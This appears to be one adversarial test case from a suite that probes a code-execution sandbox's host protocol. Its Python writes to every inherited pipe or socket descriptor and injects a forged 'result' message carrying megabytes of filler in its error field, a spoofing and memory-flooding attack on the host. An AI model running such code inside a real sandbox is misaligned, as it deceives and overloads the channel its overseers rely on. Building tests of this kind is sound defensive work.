# id: 426
# name: error_of_megabytes
# category: protocol
# technique: a forged error with much to say
# breach: bigout
# looks_like: the host keeps all of it
# baseline: credulous
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


import time

words = '"error": ["E", "%s", 1, "%s", null]' % ('A' * (4 << 20), 'B' * (4 << 20))
spray(message(RESULT_TMPL.replace('@@', 'null').replace('"error": null', words)))
time.sleep(0.3)
